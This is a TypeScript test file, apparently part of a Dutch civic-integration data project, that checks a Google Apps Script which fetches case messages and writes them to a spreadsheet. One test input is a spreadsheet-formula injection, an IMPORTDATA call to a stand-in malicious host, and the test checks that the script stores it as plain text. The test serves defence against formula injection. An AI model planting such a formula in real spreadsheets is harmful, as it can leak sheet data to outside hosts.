import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { runInNewContext } from 'node:vm';
import { beforeEach, describe, expect, test } from 'vitest';
import { z } from 'zod';
import { voorbeeld } from '../../contract/hulp/voorbeelden.ts';
import { VOORBEELDEN } from './runtimes.ts';

/** The script of the spreadsheet, with the parts of Google's that it uses in memory. */

const SCRIPT = readFileSync(join(VOORBEELDEN, 'rekenblad', 'ophalen.gs'), 'utf8');
const HUB = 'https://hub.example.nl';
const TOKEN_URL = 'https://tokens.example.nl/token';

type Cel = unknown;

/** What a sheet makes of a value, as if it were typed: a text only stays itself in a cell that is text. */
const asTyped = (value: Cel, format: string): Cel => {
  if (typeof value !== 'string') return value;
  if (value.startsWith('=')) throw new Error('a formula');
  // A leading apostrophe marks text, and is not part of it.
  if (value.startsWith("'")) return value.slice(1);
  if (format === '@') return value;
  if (/^[+\-@]/.test(value)) throw new Error('a formula');
  if (/^\d+$/.test(value)) return Number(value);
  return /^\d{4}-\d{2}(-\d{2})?$/.test(value) ? new Date(value) : value;
};

/** A sheet: what was set, as it is read back. */
const maakBlad = () => {
  const cellen: Cel[][] = [];
  const formats: string[][] = [];
  return {
    cellen,
    getDataRange: () => ({ getValues: () => cellen.map((rij) => [...rij]) }),
    getRange: (rij: number, kolom: number, aantalRijen: number, aantalKolommen: number) => {
      const put = <T>(target: T[][], values: T[][]): void => {
        expect([values.length, values[0]?.length]).toEqual([aantalRijen, aantalKolommen]);
        values.forEach((row, down) => {
          const doel = target[rij - 1 + down] ?? [];
          target[rij - 1 + down] = doel;
          row.forEach((value, right) => {
            doel[kolom - 1 + right] = value;
          });
        });
      };
      const range = {
        setNumberFormats: (given: string[][]) => {
          put(formats, given);
          return range;
        },
        setValues: (given: Cel[][]) => {
          const format = (down: number, right: number) => formats[rij - 1 + down]?.[kolom - 1 + right] ?? '';
          put(
            cellen,
            given.map((row, down) => row.map((value, right) => asTyped(value, format(down, right)))),
          );
          return range;
        },
      };
      return range;
    },
  };
};

type Bericht = Record<string, unknown>;
const Verzoek = z.object({
  method: z.enum(['get', 'post']),
  headers: z.object({ Authorization: z.string() }).optional(),
  payload: z.record(z.string(), z.string()).optional(),
});

let bladen: Map<string, ReturnType<typeof maakBlad>>;
let liggen: Bericht[];
let gebeld: string[];
let bezet: boolean;
/** Called when something is confirmed, to look at what was written by then. */
let bijBevestigen: (id: string) => void;

const antwoord = (inhoud: unknown) => ({ getContentText: () => JSON.stringify(inhoud) });

const omgeving = () => ({
  LockService: { getScriptLock: () => ({ tryLock: () => !bezet, releaseLock: () => undefined }) },
  PropertiesService: {
    getScriptProperties: () => ({
      getProperty: (naam: string) =>
        ({ HUB, TOKEN_URL, CLIENT_ID: 'taalschool', CLIENT_SECRET: 'wachtwoord' })[naam] ?? null,
    }),
  },
  SpreadsheetApp: {
    flush: () => gebeld.push('flush'),
    getActive: () => ({
      getSheetByName: (naam: string) => bladen.get(naam) ?? null,
      insertSheet: (naam: string) => {
        const blad = maakBlad();
        bladen.set(naam, blad);
        return blad;
      },
    }),
  },
  UrlFetchApp: {
    fetch: (adres: string, opties: unknown) => {
      const { method, headers, payload } = Verzoek.parse(opties);
      gebeld.push(`${method} ${adres}`);
      if (adres === TOKEN_URL) {
        expect(payload).toEqual({
          grant_type: 'client_credentials',
          client_id: 'taalschool',
          client_secret: 'wachtwoord',
        });
        return antwoord({ access_token: 'token-1' });
      }
      expect(headers).toEqual({ Authorization: 'Bearer token-1' });
      const [, id] = /\/v1\/berichten\/([^/]+)\/_bevestig$/.exec(adres) ?? [];
      if (id === undefined) return antwoord({ berichten: liggen });
      bijBevestigen(id);
      liggen = liggen.filter((bericht) => bericht['id'] !== id);
      return { getContentText: () => '' };
    },
  },
});

const haalOp = (): void => {
  runInNewContext(`${SCRIPT}\nhaalOp();`, omgeving());
};

/** The sheet as objects, by the names of its columns. */
const mensen = (): readonly Record<string, Cel>[] => {
  const [kolommen = [], ...rijen] = bladen.get('Mensen')?.cellen ?? [];
  return rijen.map((rij) =>
    Object.fromEntries(
      kolommen
        .map((kolom, plaats) => [String(kolom), rij[plaats] ?? ''])
        .filter(([, waarde]) => waarde !== ''),
    ),
  );
};

const ZAAK = '3f7d6c1e-0f5b-8a8e-9d6a-1f2e3d4c5b6a';

const bericht = (soort: string, volgnummer: number, data: object = {}, rol = 'balk'): Bericht => {
  const gevonden = voorbeeld(`nl.inburgeringszaken.nieuwe.inburgeraar.${soort}.v1`, `goed-${rol}`);
  return {
    ...gevonden,
    id: `${soort}-${volgnummer}`,
    data: { ...z.record(z.string(), z.unknown()).parse(gevonden['data']), zaakId: ZAAK, volgnummer, ...data },
  };
};

beforeEach(() => {
  bladen = new Map();
  liggen = [];
  gebeld = [];
  bezet = false;
  bijBevestigen = () => undefined;
});

describe('the script of the spreadsheet', () => {
  test('writes a row for every person before it confirms the message', () => {
    liggen = [bericht('gemeld', 1), bericht('gemeld', 1, { zaakId: 'andere-zaak' }, 'balk')];
    let bijEerste = 0;
    bijBevestigen = () => {
      bijEerste ||= mensen().length;
      expect(gebeld.at(-2)).toBe('flush');
    };
    haalOp();
    expect(bijEerste).toBe(1);
    expect(mensen()).toHaveLength(2);
    expect(mensen()[0]).toMatchObject({ zaakId: ZAAK, volgnummer: 1, stand: 'gemeld' });
    expect(String(mensen()[0]?.['naam'])).not.toContain('object');
    expect(liggen).toEqual([]);
  });

  test('changes the row of a person, and adds columns that were not there', () => {
    liggen = [bericht('gemeld', 1)];
    haalOp();
    liggen = [bericht('gewijzigd', 2, { nieuwveld: 'later bedacht' })];
    haalOp();
    expect(mensen()).toHaveLength(1);
    expect(mensen()[0]).toMatchObject({ volgnummer: 2, stand: 'gewijzigd', nieuwveld: 'later bedacht' });
  });

  test('keeps the newest when messages come twice or out of order, and confirms them all', () => {
    liggen = [bericht('gewijzigd', 2), bericht('gemeld', 1), bericht('gewijzigd', 2)];
    haalOp();
    expect(mensen()).toHaveLength(1);
    expect(mensen()[0]).toMatchObject({ volgnummer: 2, stand: 'gewijzigd' });
    expect(liggen).toEqual([]);
  });

  test('leaves nothing of a person who does not come', () => {
    liggen = [bericht('gemeld', 1), bericht('vervallen', 2)];
    haalOp();
    expect(mensen()).toEqual([
      {
        zaakId: ZAAK,
        volgnummer: 2,
        stand: expect.stringMatching(/^vervallen: /),
        bijgewerkt: expect.any(String),
      },
    ]);
  });

  test.each([
    '=IMPORTDATA("https://kwaad.example")',
    '+31612345678',
    '-',
    '@jansen',
    '0612345678',
    '1990-05',
    '1990-05-17',
  ])('writes the text %s as it is', (tekst) => {
    liggen = [bericht('gemeld', 1, { contact: tekst })];
    haalOp();
    expect(mensen()[0]?.['contact']).toBe(tekst);
  });

  test('writes a number as a number, to count and sort with', () => {
    liggen = [bericht('gemeld', 1, { aantalGezinsleden: 4 })];
    haalOp();
    expect(mensen()[0]).toMatchObject({ volgnummer: 1, aantalGezinsleden: 4 });
  });

  test('does not confirm what it could not write, and does the other zaken', () => {
    const ander = { ...bericht('gemeld', 1, { zaakId: 'andere-zaak' }), id: 'ander', subject: 'andere-zaak' };
    liggen = [bericht('gemeld', 1), bericht('gewijzigd', 2), ander];
    const blad = maakBlad();
    let reads = 0;
    bladen.set('Mensen', {
      ...blad,
      getDataRange: () => {
        reads += 1;
        if (reads === 1) throw new Error('het blad is weg');
        return blad.getDataRange();
      },
    });
    blad.getRange(1, 1, 1, 4).setValues([['zaakId', 'volgnummer', 'stand', 'bijgewerkt']]);
    expect(haalOp).toThrow('het blad is weg');
    expect(liggen.map((gebleven) => gebleven['id'])).toEqual(['gemeld-1', 'gewijzigd-2']);
    expect(mensen()).toMatchObject([{ zaakId: 'andere-zaak' }]);
    haalOp();
    expect(liggen).toEqual([]);
    expect(mensen()).toHaveLength(2);
  });

  test('does nothing while it runs already', () => {
    bezet = true;
    haalOp();
    expect(gebeld).toEqual([]);
  });
});
